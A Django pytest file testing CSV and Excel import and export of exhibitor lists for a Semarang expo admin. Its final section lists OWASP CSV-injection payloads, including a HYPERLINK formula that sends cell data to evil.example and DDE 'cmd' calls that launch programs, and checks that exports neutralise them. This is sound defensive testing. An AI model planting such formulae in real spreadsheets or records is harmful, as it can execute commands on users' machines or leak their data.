import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from booths.models import Assignment
from booths.tests.factories import BoothFactory
from core.tests.helpers import text_of
from exhibitors.models import Category, Exhibitor
from exhibitors.resources import ParticipantResource
from exhibitors.tests.factories import ApplicationFactory, ExhibitorFactory
from expo.models import Desa, Kecamatan, Region
from expo.tests.factories import KABUPATEN_SEMARANG, KOTA_SEMARANG, EditionFactory

pytestmark = pytest.mark.django_db

IMPORT_URL = reverse("admin:exhibitors_exhibitor_import")
CSV_FORMAT, XLSX_FORMAT = "0", "1"
HEADINGS = [
    "Nama",
    "Jenis",
    "Kategori",
    "Skala",
    "Kabupaten Kota",
    "Alamat",
    "WhatsApp",
    "Email",
    "NIB",
    "PIRT",
]
KERIPIK = [
    "Keripik Tempe Bu Sri",
    "UMKM",
    "Kuliner",
    "mikro",
    "33.22",
    "Jl. Diponegoro 12, Ungaran",
    "0812-3456-7890",
    "bu.sri@example.com",
    "3322000000001",
    "123456789012345",
]
DINAS = [
    "Dinas Koperasi Kota Semarang",
    "instansi",
    "jasa",
    "",
    "Kota Semarang",
    "",
    "",
    "",
    "",
    "",
]


def csv_file(rows, headings=HEADINGS):
    text = io.StringIO()
    csv.writer(text).writerows([headings, *rows])
    return SimpleUploadedFile("peserta.csv", text.getvalue().encode(), "text/csv")


def xlsx_file(rows, headings=HEADINGS):
    workbook = openpyxl.Workbook()
    for row in [headings, *rows]:
        workbook.active.append(row)
    content = io.BytesIO()
    workbook.save(content)
    return SimpleUploadedFile("peserta.xlsx", content.getvalue())


def preview(client, upload, file_format=CSV_FORMAT):
    return client.post(IMPORT_URL, {"import_file": upload, "format": file_format})


def confirm(client, response):
    return client.post(
        reverse("admin:exhibitors_exhibitor_process_import"),
        response.context["confirm_form"].initial,
        follow=True,
    )


def test_a_valid_list_is_previewed_then_imported(client, organiser):
    existing = ExhibitorFactory(name="Keripik Tempe", nib="3322000000001", whatsapp="")

    response = preview(client, csv_file([KERIPIK, DINAS]))

    assert "Semua baris benar: 1 baru, 1 diperbarui, 0 tidak berubah." in text_of(response)
    assert Exhibitor.objects.count() == 1
    done = confirm(client, response)

    assert "Impor selesai: 1 baru, 1 diperbarui, 0 tidak berubah." in text_of(done)
    existing.refresh_from_db()
    assert (existing.name, existing.whatsapp, existing.pirt, existing.category) == (
        "Keripik Tempe Bu Sri",
        "+6281234567890",
        "123456789012345",
        Category.CULINARY,
    )
    dinas = Exhibitor.objects.get(name="Dinas Koperasi Kota Semarang")
    assert (dinas.kind, dinas.region_id, dinas.slug) == (
        Exhibitor.Kind.INSTITUTION,
        KOTA_SEMARANG,
        "dinas-koperasi-kota-semarang",
    )


def test_an_excel_list_with_numbers_as_numbers_imports(client, organiser):
    # Excel keeps a typed NIB or phone as a number, losing the phone's leading zero.
    row = [*KERIPIK[:6], 81234567890, "", 3322000000001, 123456789012345]

    confirm(client, preview(client, xlsx_file([row]), XLSX_FORMAT))

    exhibitor = Exhibitor.objects.get()
    assert (exhibitor.whatsapp, exhibitor.nib, exhibitor.pirt, exhibitor.region_id) == (
        "+6281234567890",
        "3322000000001",
        "123456789012345",
        KABUPATEN_SEMARANG,
    )


def test_an_institution_without_nib_is_matched_by_name_and_region(client, organiser):
    dinas = ExhibitorFactory(
        name="Dinas Koperasi Kota Semarang",
        kind=Exhibitor.Kind.INSTITUTION,
        scale="",
        nib="",
        region_id=KOTA_SEMARANG,
    )
    ExhibitorFactory(name="Dinas Koperasi Kota Semarang", nib="", region_id=KABUPATEN_SEMARANG)
    row = [*DINAS[:5], "Jl. Pemuda 148", *DINAS[6:]]

    confirm(client, preview(client, csv_file([row])))

    dinas.refresh_from_db()
    assert dinas.address == "Jl. Pemuda 148"
    assert Exhibitor.objects.count() == 2


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("NIB", "12345", "NIB terdiri dari 13 angka."),
        (
            "Kabupaten Kota",
            "Kabupaten Atlantis",
            "Kabupaten/kota “Kabupaten Atlantis” tidak dikenal",
        ),
        ("WhatsApp", "12345", "“12345” bukan nomor telepon Indonesia"),
    ],
)
def test_one_bad_row_writes_nothing_and_says_which_row_and_why(
    client, organiser, column, value, message
):
    existing = ExhibitorFactory(name="Keripik Tempe", nib="3322000000001")
    bad = list(DINAS)
    bad[HEADINGS.index(column)] = value

    response = preview(client, csv_file([KERIPIK, bad]))

    text = text_of(response)
    assert "Tidak ada yang diimpor: ada baris yang salah" in text
    assert f"Baris 3, kolom {column}: {message}" in text
    assert "confirm_form" not in response.context
    existing.refresh_from_db()
    assert (existing.name, Exhibitor.objects.count()) == ("Keripik Tempe", 1)


def test_confirming_a_file_that_went_bad_meanwhile_writes_nothing(client, organiser):
    response = preview(client, csv_file([KERIPIK, DINAS]))
    # Between preview and confirmation the second row's city leaves the reference list.
    Desa.objects.filter(kecamatan__region=KOTA_SEMARANG).delete()
    Kecamatan.objects.filter(region=KOTA_SEMARANG).delete()
    Region.objects.filter(code=KOTA_SEMARANG).delete()

    done = confirm(client, response)

    assert "Tidak ada yang diimpor: berkas tidak lagi cocok dengan data." in text_of(done)
    assert Exhibitor.objects.count() == 0


def test_participants_of_an_edition_export_with_booth_origin_and_legality(client, organiser):
    edition = EditionFactory()
    batik = ApplicationFactory(
        edition=edition,
        accepted=True,
        exhibitor__name="Batik Sekar Jagad",
        exhibitor__email="sekar@example.com",
    )
    Assignment.objects.create(booth=BoothFactory(edition=edition, code="B-07"), application=batik)
    ApplicationFactory(
        edition=edition,
        exhibitor__name="Bandeng Presto Juwana",
        exhibitor__category=Category.CULINARY,
        exhibitor__region_id=KOTA_SEMARANG,
        exhibitor__whatsapp="+6285700001111",
        exhibitor__pirt="123456789012345",
    )
    ApplicationFactory(exhibitor__name="Kopi Banaran")

    response = client.post(
        reverse("admin:exhibitors_application_export") + f"?edition__id__exact={edition.pk}",
        {
            "format": CSV_FORMAT,
            "resource": "0",
            **{f"participantresource_{name}": "on" for name in ParticipantResource._meta.fields},
        },
    )

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == [
        "edisi",
        "nama",
        "jenis",
        "kategori",
        "skala",
        "status",
        "keikutsertaan",
        "stan",
        "kode_wilayah",
        "kabupaten_kota",
        "asal",
        "whatsapp",
        "email",
        "alamat",
        "nib",
        "pirt",
        "sertifikat_halal",
        "bpom",
    ]
    by_name = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert sorted(by_name) == ["Bandeng Presto Juwana", "Batik Sekar Jagad"]
    assert [
        by_name["Batik Sekar Jagad"][column]
        for column in ["status", "stan", "kode_wilayah", "asal", "email", "nib"]
    ] == [
        "Diterima",
        "B-07",
        "33.22",
        "dalam daerah tuan rumah",
        "sekar@example.com",
        "1234567890123",
    ]
    assert [
        by_name["Bandeng Presto Juwana"][column]
        for column in ["status", "stan", "kabupaten_kota", "asal", "whatsapp", "pirt"]
    ] == [
        "Diajukan",
        "",
        "Kota Semarang",
        "luar daerah tuan rumah",
        "+6285700001111",
        "123456789012345",
    ]


def test_exhibitors_export_as_people_read_them_and_import_back_unchanged(client, organiser):
    ExhibitorFactory(
        name="Keripik Tempe Bu Sri",
        category=Category.CULINARY,
        scale=Exhibitor.Scale.MICRO,
        nib="3322000000001",
        whatsapp="+6281234567890",
    )
    ExhibitorFactory(
        name="Dinas Koperasi Kota Semarang",
        kind=Exhibitor.Kind.INSTITUTION,
        category=Category.SERVICES,
        scale="",
        nib="",
        region_id=KOTA_SEMARANG,
    )
    columns = ["name", "kind", "category", "scale", "region", "whatsapp", "nib"]

    response = client.post(
        reverse("admin:exhibitors_exhibitor_export"),
        {
            "format": CSV_FORMAT,
            "resource": "0",
            **{f"exhibitorresource_{c}": "on" for c in columns},
        },
    )

    content = response.content.decode("utf-8-sig")
    rows = sorted(csv.reader(io.StringIO(content)))
    assert rows == [
        ["Dinas Koperasi Kota Semarang", "Instansi", "Jasa", "", "33.74", "+6281234567890", ""],
        [
            "Keripik Tempe Bu Sri",
            "UMKM",
            "Kuliner",
            "Mikro (omzet hingga Rp2 miliar per tahun)",
            "33.22",
            "+6281234567890",
            "3322000000001",
        ],
        ["nama", "jenis", "kategori", "skala", "kabupaten_kota", "whatsapp", "nib"],
    ]
    again = preview(client, SimpleUploadedFile("ekspor.csv", content.encode(), "text/csv"))
    assert "Semua baris benar: 0 baru, 0 diperbarui, 2 tidak berubah." in text_of(again)


def test_the_export_page_names_the_columns_as_the_file_does(client, organiser):
    response = client.get(reverse("admin:exhibitors_application_export"))

    text = text_of(response)
    assert "Kolom yang diekspor: edisi nama jenis kategori skala status keikutsertaan" in text
    assert "onchange" not in response.content.decode()


def test_participants_export_as_excel(client, organiser):
    edition = EditionFactory()
    ApplicationFactory(edition=edition, exhibitor__name="Batik Sekar Jagad", accepted=True)

    response = client.post(
        reverse("admin:exhibitors_application_export") + f"?edition__id__exact={edition.pk}",
        {
            "format": XLSX_FORMAT,
            "resource": "0",
            "participantresource_name": "on",
            "participantresource_booth": "on",
        },
    )

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["nama", "stan"],
        ["Batik Sekar Jagad", None],
    ]


# The OWASP CSV-injection payloads, and the ways a cell can start a formula.
FORMULAE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1;=2+2",
]


def export_participants(client, edition, file_format, fields):
    return client.post(
        reverse("admin:exhibitors_application_export") + f"?edition__id__exact={edition.pk}",
        {
            "format": file_format,
            "resource": "0",
            **{f"participantresource_{name}": "on" for name in fields},
        },
    )


@pytest.mark.parametrize("payload", FORMULAE)
def test_a_name_written_as_a_formula_is_exported_as_text(client, organiser, payload):
    edition = EditionFactory()
    ApplicationFactory(edition=edition, exhibitor__name=payload, exhibitor__whatsapp="")

    as_csv = export_participants(client, edition, CSV_FORMAT, ["name"])
    as_xlsx = export_participants(client, edition, XLSX_FORMAT, ["name"])

    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert rows[1] == ["'" + payload]
    cell = openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).active["A2"]
    # Excel files keep line breaks as \n, whatever the text had.
    assert (cell.value, cell.data_type) == ("'" + payload.replace("\r", "\n"), "s")


def test_phone_numbers_and_numbers_stay_readable_in_exports(client, organiser):
    edition = EditionFactory()
    ApplicationFactory(
        edition=edition, exhibitor__name="-Batik-", exhibitor__whatsapp="+6281234567890"
    )

    as_csv = export_participants(client, edition, CSV_FORMAT, ["name", "whatsapp"])

    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert rows[1] == ["'-Batik-", "+6281234567890"]
